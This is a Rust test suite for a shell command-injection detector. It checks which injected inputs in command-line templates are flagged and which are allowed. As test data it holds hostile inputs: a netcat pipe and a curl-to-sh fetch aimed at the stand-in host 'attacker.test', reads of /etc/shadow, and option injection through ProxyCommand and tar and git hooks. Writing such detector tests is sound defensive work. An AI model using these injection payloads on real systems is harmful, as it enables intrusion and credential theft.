//! The shell detector on realistic command lines: attacks it must flag,
//! benign look-alikes it must let through, and hostile text it must survive.

mod sanitizer_support;

use memchr::memmem::Finder;
use proptest::prelude::*;
use rasp_core::Reason;
use rasp_core::detect::shell::detect;

fn reason(command: &str, input: &str) -> Option<Reason> {
    detect(command.as_bytes(), &Finder::new(input.as_bytes())).map(|f| f.reason)
}

/// A command line as an application builds it, with the input placed raw.
fn raw(template: &str, input: &str) -> String {
    template.replace("{}", input)
}

/// A command line with the input single-quoted the POSIX way (`'\''` for
/// each quote), as `shlex.quote` or `shell-escape` do.
fn quoted(template: &str, input: &str) -> String {
    template.replace("{}", &format!("'{}'", input.replace('\'', r"'\''")))
}

/// A command line with the input double-quoted, escaping `$`, `` ` ``, `"`
/// and `\`.
fn double_quoted(template: &str, input: &str) -> String {
    let mut escaped = String::new();
    for c in input.chars() {
        if matches!(c, '$' | '`' | '"' | '\\') {
            escaped.push('\\');
        }
        escaped.push(c);
    }
    template.replace("{}", &format!("\"{escaped}\""))
}

const TEMPLATES: &[&str] = &[
    "dig +short {}",
    "convert {} -thumbnail 64x64 /var/cache/thumbs/out.webp",
    "git -C /srv/repos show {}:README.md",
    "zip -r /tmp/export.zip {}",
    "ffprobe -v error {} 2>&1",
];

#[test]
fn flags_attacks_placed_raw() {
    let attacks: &[(&str, Reason)] = &[
        ("x; cat /etc/shadow", Reason::ShellOperator),
        ("x;uname", Reason::ShellOperator),
        ("x | nc attacker.test 4444", Reason::ShellOperator),
        ("x||reboot", Reason::ShellOperator),
        ("x && curl -s attacker.test/s | sh", Reason::ShellOperator),
        ("x &", Reason::ShellOperator),
        ("x\ntouch /tmp/pwned", Reason::ShellOperator),
        ("x > /etc/cron.d/job", Reason::ShellOperator),
        ("x</etc/hosts", Reason::ShellOperator),
        ("(sleep 9)", Reason::ShellOperator),
        ("$(sleep 9)", Reason::CommandSubstitution),
        ("`sleep 9`", Reason::CommandSubstitution),
        ("a$(printf x)b", Reason::CommandSubstitution),
        ("$((2*21))", Reason::CommandSubstitution),
        ("x${IFS}-rf", Reason::SpansTokens),
        ("x$IFS-rf", Reason::SpansTokens),
        ("{rm,-rf,/tmp/x}", Reason::SpansTokens),
        ("x -o /tmp/owned", Reason::SpansTokens),
        ("x #", Reason::OpensComment),
        ("x'", Reason::Unterminated),
        ("\"x", Reason::Unterminated),
    ];
    for template in TEMPLATES {
        for (input, expected) in attacks {
            let line = raw(template, input);
            let got = reason(&line, input);
            // Some templates add an operator right after the input; the
            // reason may then differ, but the input is always flagged.
            assert!(got.is_some(), "{input:?} in {line:?}");
            if template.ends_with("{}") {
                assert_eq!(got, Some(*expected), "{input:?} in {line:?}");
            }
        }
    }
}

#[test]
fn flags_inputs_read_as_options_until_the_applications_double_dash() {
    for template in TEMPLATES {
        for input in ["--verbose", "-n", "--output=/tmp/x", "-oProxyCommand=id"] {
            let line = raw(template, input);
            assert_eq!(
                reason(&line, input),
                Some(Reason::OptionInjection),
                "{input:?} in {line:?}"
            );
        }
    }
    // Quoting does not stop a program from reading an option.
    assert_eq!(
        reason("ls '--help'", "--help"),
        Some(Reason::OptionInjection)
    );
    assert_eq!(reason("ls \"-la\"", "-la"), Some(Reason::OptionInjection));
    // After `--`, past a prefix the application wrote, or as a redirection
    // target, a leading `-` is data.
    for (line, input) in [
        ("ls -- --help", "--help"),
        ("grep -r -- -x /srv", "-x"),
        ("curl --data=-x http://a.test", "-x"),
        ("ls ./-la", "-la"),
        ("sort > -out.txt", "-out.txt"),
        ("ls -- a; rm -- -rf", "-rf"),
    ] {
        assert_eq!(reason(line, input), None, "{input:?} in {line:?}");
    }
    // A control operator starts a new command, whose options are its own.
    assert_eq!(
        reason("ls -- a; rm -rf", "-rf"),
        Some(Reason::OptionInjection)
    );
}

#[test]
fn flags_inputs_that_choose_what_a_wrapper_runs() {
    let attacks = [
        "timeout 5 {}",
        "timeout -s KILL 5 {} -la",
        "nice -n 10 {}",
        "nohup {} &",
        "env LANG=C {}",
        "/usr/bin/env -u HOME {}",
        "sudo -u app {}",
        "doas {}",
        "xargs -0 -n 1 {} < list",
        "stdbuf -oL {}",
        "ionice -c2 {}",
        "chroot /srv/jail {}",
        "setsid {}",
        "flock /tmp/lock {}",
        "sudo nice timeout 5 {}",
        "find . -name '*.log' -exec {} ';'",
        "find /srv -execdir {} \\;",
        "{}",
        "/opt/tools/{} --version",
        "A=1 {} x",
        "echo $(timeout 3 {})",
        "if {}; then echo ok; fi",
        "ls | xargs {}",
    ];
    for template in attacks {
        let line = raw(template, "id");
        assert_eq!(
            reason(&line, "id"),
            Some(Reason::ChoosesCommand),
            "{line:?}"
        );
    }
}

#[test]
fn flags_inputs_that_an_interpreter_runs() {
    let attacks = [
        ("python3 -c {}", "exit"),
        ("python3 -c 'import os; {}'", "os.system"),
        ("/usr/bin/python3.12 {} data.csv", "evil.py"),
        ("perl -e {}", "system"),
        ("perl -ne 'print if /{}/' f", "x/;system\"id\";/"),
        ("ruby -e {}", "puts"),
        ("node -e {}", "require"),
        ("php -r {}", "phpinfo"),
        ("awk '{}' /etc/hosts", "BEGIN{system(\"id\")}"),
        ("awk -F, '{}' data.csv", "system"),
        ("sed -n {} notes", "1e_id"),
        ("tar --to-command={} -xf a.tar", "id"),
        ("tar -c --checkpoint=1 --checkpoint-action=exec={} .", "id"),
        ("tar -I {} -cf a.tar .", "id"),
        ("git -c core.sshCommand={} fetch", "id"),
        ("git -c {} fetch", "core.pager=id"),
        ("git clone --upload-pack={} repo", "id"),
        ("rsync -e {} a b:", "id"),
        ("ssh -o ProxyCommand={} host", "id"),
        ("git {} --help", "daemon"),
    ];
    for (template, input) in attacks {
        let line = raw(template, input);
        assert_eq!(
            reason(&line, input),
            Some(Reason::ChoosesCommand),
            "{input:?} in {line:?}"
        );
    }
}

#[test]
fn reads_command_lines_a_shell_runs_again_as_shell_text() {
    let attacks = [
        ("sh -c 'ls {}'", "x; id", Reason::ShellOperator),
        ("bash -c \"ls {}\"", "a b", Reason::SpansTokens),
        ("ssh backup.test ls {}", "x;id", Reason::ShellOperator),
        (
            "ssh backup.test 'ls {}'",
            "$(id)",
            Reason::CommandSubstitution,
        ),
        ("ssh backup.test {}", "id", Reason::ChoosesCommand),
        ("sh -c 'timeout 5 {}'", "id", Reason::ChoosesCommand),
        ("eval {}", "id", Reason::ChoosesCommand),
        ("watch -n 5 {}", "id", Reason::ChoosesCommand),
        ("env -S {}", "id", Reason::ChoosesCommand),
    ];
    for (template, input, expected) in attacks {
        let line = raw(template, input);
        assert_eq!(
            reason(&line, input),
            Some(expected),
            "{input:?} in {line:?}"
        );
    }
    // Shell text nested deeper than is read is reported.
    let nested = (0..6).fold(String::from("ls {}"), |inner, _| {
        format!(
            "sh -c {}",
            sanitizer_support::sanitized::<rasp_core::Shell>(&inner)
        )
    });
    assert!(reason(&nested.replace("{}", "report"), "report").is_some());
    assert_eq!(
        reason("sh -c 'ls \"$1\"' sh {}", "a b; id"),
        None,
        "positional parameters are data"
    );
}

#[test]
fn allows_inputs_as_data_of_wrapped_programs() {
    let benign = [
        "timeout 5 grep -- {} /srv/notes",
        "timeout -s KILL 5 grep -F {} /srv/notes",
        "find . -name {}",
        "find . -name {} -exec rm -- '{}' ';'",
        "python3 /opt/app/report.py {}",
        "python3 -c 'import sys; print(sys.argv[1])' {}",
        "perl -ne 'print' {}",
        "awk -F, '{print $2}' {}",
        "sed -n 1p {}",
        "tar -czf /backups/out.tgz -- {}",
        "tar -xf /backups/in.tgz -C /srv {}",
        "nice -n 10 gzip -k {}",
        "xargs -0 rm -- {}",
        "ssh -p 22 {} uptime",
        "env LANG=C sort {}",
        "git -C /srv/repo log --author={}",
        "sh -c 'printf %s \"$1\"' sh {}",
        "ps -p {}",
        "cat > {}",
        "for f in {}; do wc -l \"$f\"; done",
    ];
    for template in benign {
        let line = raw(template, "report_2026");
        assert_eq!(reason(&line, "report_2026"), None, "{line:?}");
    }
    // Letters of the application's own program names are not choices.
    assert_eq!(reason("timeout 5 python3 -c 'print(1)'", "th"), None);
    assert_eq!(reason("timeout 5 convert a.png b.png", "on"), None);
}

#[test]
fn flags_the_old_style_options_of_tar_and_ps() {
    assert_eq!(reason("tar xvf /srv", "xvf"), Some(Reason::OptionInjection));
    assert_eq!(reason("ps auxe", "auxe"), Some(Reason::OptionInjection));
    assert_eq!(reason("tar czf /tmp/a.tgz /srv", "c"), None);
}

#[test]
fn flags_breaking_out_of_the_applications_quotes() {
    let cases: &[(&str, &str, Reason)] = &[
        (
            "grep -- '{}' /srv/notes",
            "x' /etc/passwd '",
            Reason::BreaksLiteral,
        ),
        ("grep -- '{}' /srv/notes", "'; id; '", Reason::BreaksLiteral),
        ("echo \"{}\" >> log", "x\"; id; \"", Reason::BreaksLiteral),
        ("echo \"{}\" >> log", "$(id)", Reason::CommandSubstitution),
        ("echo \"{}\" >> log", "`id`", Reason::CommandSubstitution),
        ("echo \"{}\" >> log", "x\\", Reason::BreaksLiteral),
        ("printf '%s' '{}'", "x'", Reason::BreaksLiteral),
    ];
    for (template, input, expected) in cases {
        let line = raw(template, input);
        assert_eq!(
            reason(&line, input),
            Some(*expected),
            "{input:?} in {line:?}"
        );
    }
}

/// Unquoted, a tilde at a word start and a glob are expanded by the
/// shell: `~` to a home directory, `*.log` to as many words as files
/// match. Quoted, they are the characters they are.
#[test]
fn flags_tilde_and_globs_only_where_the_shell_expands_them() {
    for word in ["~/notes.txt", "~root/.ssh/id_rsa", "*.log", "report-?.pdf"] {
        let line = format!("ls -l {word}");
        assert!(reason(&line, word).is_some(), "{line:?}");
        for quoted in [format!("ls -l '{word}'"), format!("ls -l \"{word}\"")] {
            assert_eq!(reason(&quoted, word), None, "{quoted:?}");
        }
    }
}

#[test]
fn allows_benign_words() {
    let words = [
        "report-2024-06.pdf",
        "photo_01.JPG",
        "release/v1.2.3",
        "user@example.org",
        "50%",
        "a,b",
        "naïve-café",
        "key=value",
        "{}",
    ];
    for template in TEMPLATES {
        for word in words {
            let line = raw(template, word);
            assert_eq!(reason(&line, word), None, "{word:?} in {line:?}");
        }
    }
}

#[test]
fn allows_anything_properly_quoted() {
    let inputs = [
        "Tom & Jerry",
        "rock 'n' roll",
        "it's",
        "'leading quote",
        "trailing quote'",
        "'both'",
        "a; b | c && d || e",
        "$(reboot) `reboot` ${IFS} $HOME",
        "line one\nline two",
        "back\\slash\\",
        "\"quoted\"",
        "# not a comment",
        "{a,b}",
        "x > y < z",
        "(parens)",
        "tab\there",
    ];
    for template in TEMPLATES {
        for input in inputs {
            let line = quoted(template, input);
            assert_eq!(reason(&line, input), None, "{input:?} in {line:?}");
            let line = double_quoted(template, input);
            assert_eq!(reason(&line, input), None, "{input:?} in {line:?}");
        }
    }
}

#[test]
fn allows_prose_in_the_applications_double_quotes() {
    let cases = [
        (
            "git commit -m \"{}\"",
            "Fix (again); see notes & docs | thanks",
        ),
        ("git commit -m \"{}\"", "Meet at 5 > 4 < 6"),
        ("notify-send \"{}\"", "Price: $5"),
        ("logger -t app \"{}\"", "He said 'hi'"),
    ];
    for (template, input) in cases {
        let line = raw(template, input);
        assert_eq!(reason(&line, input), None, "{input:?} in {line:?}");
    }
}

/// Inside the application's double quotes, a named variable the input
/// writes reads the process's environment into the command
/// (`$AWS_SECRET_ACCESS_KEY`); positional and special parameters read
/// nothing of it.
#[test]
fn flags_environment_reads_inside_double_quotes() {
    for input in ["Hello $USER", "key: ${AWS_SECRET_ACCESS_KEY}"] {
        let line = raw("notify-send \"{}\"", input);
        assert!(reason(&line, input).is_some(), "{line:?}");
    }
    for input in ["Price: $5", "pid $$ exit $?"] {
        let line = raw("notify-send \"{}\"", input);
        assert_eq!(reason(&line, input), None, "{line:?}");
    }
}

#[test]
fn judges_every_occurrence() {
    // The same text inside quotes and raw: the raw one is the injection.
    let line = "echo 'a b' && tar czf out.tgz a b";
    let finding = detect(line.as_bytes(), &Finder::new(b"a b")).expect("flagged");
    assert_eq!(finding.offset, line.rfind("a b").expect("present"));
}

#[test]
fn survives_hostile_text_in_linear_time() {
    // Many occurrences, deep nesting, unterminated constructs, 1 MB each.
    let mb = 1 << 20;
    let cases: Vec<(String, &str)> = vec![
        ("ab ".repeat(mb / 3), "ab"),
        ("a".repeat(mb), "aa"),
        ("'".repeat(mb), "''"),
        ("$(".repeat(mb / 2), "$($("),
        ("\"$(`".repeat(mb / 4), "$(`\""),
        (format!("echo '{}", " x".repeat(mb / 2)), " x x"),
        (format!("cat <<E\n{}", "a\n".repeat(mb / 2)), "a\na"),
        ("<<".repeat(mb / 2), "<<<<"),
        ("\\".repeat(mb), "\\\\"),
        ("x'\\''".repeat(mb / 5), "'\\''x"),
        // One long word: every occurrence's look back for a `~` or an
        // assignment's `NAME=` must stay bounded.
        (":~".repeat(mb / 2), ":~"),
        (
            format!("{}{}", "a".repeat(mb / 2), ":~".repeat(mb / 4)),
            ":~",
        ),
        (
            format!("{}{}", "a".repeat(mb / 2), "=~".repeat(mb / 4)),
            "=~",
        ),
    ];
    for (text, input) in &cases {
        let _ = detect(text.as_bytes(), &Finder::new(input.as_bytes()));
    }
}

/// Any printable text, starting and ending with a letter or digit. (An
/// input that starts or ends with a quote or a blank can also occur where
/// it merely lines up with the application's own delimiters, `' ` with the
/// closing quote and the blank after it; every occurrence is judged, so
/// such an input may be flagged there.)
const INPUT: &str = "[A-Za-z0-9]([ -~\n\t]{0,38}[A-Za-z0-9])?";

proptest! {
    #[test]
    fn never_panics(text in proptest::collection::vec(any::<u8>(), 0..256), from in 0usize..256, len in 0usize..32) {
        let start = from.min(text.len());
        let end = (start + len).min(text.len());
        let input = &text[start..end];
        let finding = detect(&text, &Finder::new(input));
        if let Some(f) = finding {
            prop_assert!(text[f.offset..].starts_with(input));
        }
    }

    #[test]
    fn quoted_inputs_are_never_flagged(input in INPUT) {
        let line = quoted("grep -r -- {} /srv/data", &input);
        prop_assert_eq!(reason(&line, &input), None, "{:?}", line);
    }

    #[test]
    fn double_quoted_inputs_are_never_flagged(input in INPUT) {
        let line = double_quoted("logger -t app {} --id=7", &input);
        prop_assert_eq!(reason(&line, &input), None, "{:?}", line);
    }

    #[test]
    fn words_of_plain_characters_are_never_flagged(input in "[A-Za-z0-9._/=:@%+,][A-Za-z0-9._/=:@%+,-]{1,39}") {
        let line = raw("file --brief {} /dev/null", &input);
        prop_assert_eq!(reason(&line, &input), None);
    }
}

/// Quoted with rasp's shell sanitizer.
fn sanitized(input: &str) -> String {
    sanitizer_support::sanitized::<rasp_core::Shell>(input)
}

/// What `sh` prints for `printf %s <word>`.
#[allow(clippy::disallowed_methods, reason = "the oracle runs a real shell")]
fn printed_by_sh(word: &str) -> Vec<u8> {
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("printf %s {word}"))
        .output()
        .expect("sh runs");
    assert!(out.status.success(), "{word:?}: {out:?}");
    out.stdout
}

proptest! {
    #[test]
    fn sanitized_inputs_are_never_flagged(input in INPUT) {
        for template in ["printf %s {}", "tar czf /tmp/out.tgz -- {} && echo done", "echo {}|wc -c"] {
            let line = template.replace("{}", &sanitized(&input));
            prop_assert_eq!(reason(&line, &input), None, "{:?}", line);
        }
    }

    #[test]
    fn sanitized_words_are_plain_or_quoted_like_shlex(input in "[^\u{0}]{0,24}") {
        let ours = sanitized(&input);
        let oracle = shlex::try_quote(&input).expect("no NUL byte");
        // Both are one word for a real shell, which prints the input back.
        prop_assert_eq!(printed_by_sh(&ours), input.as_bytes());
        prop_assert_eq!(printed_by_sh(&oracle), input.as_bytes());
        // Plain words are left alone (shlex quotes a few more, such as `=`).
        let plain = input.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./,:@+=".contains(&b));
        if plain && !input.is_empty() {
            prop_assert_eq!(&ours, &input);
        }
    }
}

#[test]
fn long_and_partly_expanded_program_paths_are_looked_up_by_name() {
    let long = format!("/opt/{}/bin/timeout 5 id", "d".repeat(80));
    assert_eq!(reason(&long, "id"), Some(Reason::ChoosesCommand));
    assert_eq!(
        reason("\"$TOOLS\"/timeout 5 id", "id"),
        Some(Reason::ChoosesCommand)
    );
    // A program an expansion names is unknown: its arguments are data.
    assert_eq!(reason("$RUNNER 5 report_2026", "report_2026"), None);
}

#[test]
fn many_occurrences_in_one_long_word_stay_linear() {
    // One word of 40 000 escaped bytes: every occurrence of the input is in
    // it, and its role is learned once.
    let word = "a\\ ".repeat(20_000);
    for line in [format!("ls -- {word}"), format!("sh -c '{word}'")] {
        let started = std::time::Instant::now();
        let _ = reason(&line, "a\\ a");
        assert!(
            started.elapsed() < std::time::Duration::from_secs(2),
            "{:?}",
            started.elapsed()
        );
    }
}
